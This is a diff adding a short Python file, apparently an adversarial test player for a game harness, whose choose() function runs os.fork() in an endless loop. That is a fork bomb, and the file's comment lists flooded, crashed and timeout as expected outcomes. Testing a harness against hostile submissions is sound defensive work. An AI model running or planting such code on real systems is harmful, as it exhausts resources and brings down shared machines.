@@ -1,0 +1,10 @@
+"""Forks as fast as it can."""
+# ends: flooded raised crashed timeout
+
+import os
+
+
+def choose(view, legal, rng):
+    while True:
+        os.fork()
+    return legal[0]
